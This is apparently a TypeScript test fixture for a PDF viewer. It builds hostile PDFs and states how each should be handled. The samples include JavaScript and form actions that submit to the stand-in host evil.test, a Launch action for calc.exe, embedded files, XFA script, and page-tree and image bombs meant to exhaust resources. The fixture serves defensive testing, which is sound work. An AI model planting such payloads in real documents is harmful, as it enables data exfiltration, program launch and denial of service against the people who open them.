import { type MadePage, type MadePdf, writeObjects, writePdf } from './write-pdf.fixture.ts';

/** The sentence that is looked for, on two lines. */
export const LINES = ['The maximum height of a red', 'pine is about 43 m.'].map((text, at) => ({
  text,
  x: 60,
  y: 700 - at * 16,
}));
const one = (more: Partial<MadePdf> = {}, sheet: Partial<MadePage> = {}) =>
  writePdf({ pages: [{ lines: LINES, ...sheet }], ...more });
const EVIL = 'https://evil.test/';
const open = (action: string) => one({ catalogue: `/OpenAction<<${action}>>/AA<</WC<<${action}>>>>` });
const link = (action: string) =>
  one(
    {},
    {
      entries: `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<<${action}>>>>]/AA<</O<<${action}>>>>`,
    },
  );

const found = (bytes: Uint8Array<ArrayBuffer>) => ({
  bytes,
  end: 'found',
  sentence: /^Passage found on page 1$/,
});
const damaged = (bytes: Uint8Array<ArrayBuffer>) => ({
  bytes,
  end: 'not-found',
  sentence: /damaged|too large/,
});
const text = (bytes: Uint8Array) => new TextDecoder('latin1').decode(bytes);
const latin1 = (words: string) => Uint8Array.from(words, (character) => character.charCodeAt(0));

/** Ten kids that are one and the same, nine floors deep: a billion pages in one kilobyte. */
const MANY_PAGES = writeObjects([
  '<</Type/Catalog/Pages 2 0 R>>',
  ...Array.from(
    { length: 9 },
    (_, floor) => `<</Type/Pages/Count ${10 ** (9 - floor)}/Kids[${`${floor + 3} 0 R `.repeat(10)}]>>`,
  ),
  '<</Type/Page/MediaBox[0 0 100 100]>>',
]);
/** The tree of pages holds itself. */
const ENDLESS = writeObjects([
  '<</Type/Catalog/Pages 2 0 R>>',
  '<</Type/Pages/Count 1000000/Kids[3 0 R]>>',
  '<</Type/Pages/Count 1000000/Parent 2 0 R/Kids[2 0 R]>>',
]);

interface HostilePdf {
  bytes: Uint8Array<ArrayBuffer>;
  end: string;
  sentence: RegExp;
}

/** PDFs whose reading never ends, or is much work: the worker keeps them away from the page. */
export const ENDLESS_WORK: Record<string, HostilePdf> = {
  'a tree of pages that holds itself': damaged(ENDLESS),
  'a billion pages': damaged(MANY_PAGES),
};

/** PDFs that would run, ask or grow, and how the viewer meets each. */
export const HOSTILE: Record<string, HostilePdf> = {
  'an action in JavaScript': found(open(`/S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\("${EVIL}"\\))`)),
  'an address that opens with it': found(open(`/S/URI/URI(${EVIL})`)),
  'a program to launch': found(open('/S/Launch/F(calc.exe)/NewWindow true')),
  'a form that submits itself': found(open(`/S/SubmitForm/F<</FS/URL/F(${EVIL})>>`)),
  'a link over all of the page': found(link(`/S/URI/URI(${EVIL})`)),
  'a file inside': found(
    one({ catalogue: '/Names<</EmbeddedFiles<</Names[(a.html)<</Type/Filespec/F(a.html)>>]>>>>' }),
  ),
  'a form in XFA': found(
    one({
      catalogue:
        '/AcroForm<</Fields[]/XFA(<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>1</script></xdp:xdp>)>>/NeedsRendering true',
    }),
  ),
  'a content that is elsewhere': found(one({}, { entries: `/Thumb<</F<</FS/URL/F(${EVIL})>>>>` })),
  '10,000 pieces of text': found(
    one(
      {},
      {
        lines: [
          ...LINES,
          ...Array.from({ length: 10_000 }, (_, at) => ({
            text: `w${at % 97}`,
            x: 40 + (at % 60) * 9,
            y: 680 - Math.floor(at / 60) * 4,
            size: 4,
          })),
        ],
      },
    ),
  ),
  'an image of 30,000 × 30,000': found(
    one({}, { drawing: 'q 500 0 0 500 0 0 cm BI /W 30000 /H 30000 /BPC 8 /CS /RGB ID 0 EI Q' }),
  ),
  'a page of two million points': found(one({}, { size: [2_000_000, 842] })),
  'a page as thin as a thread': found(one({}, { size: [595, 3_000_000] })),
  'a broken table of objects': found(latin1(text(one()).replace(/startxref\n\d+/, 'startxref\n7'))),
  'half of it missing': damaged(latin1(text(one()).slice(0, 700))),
};
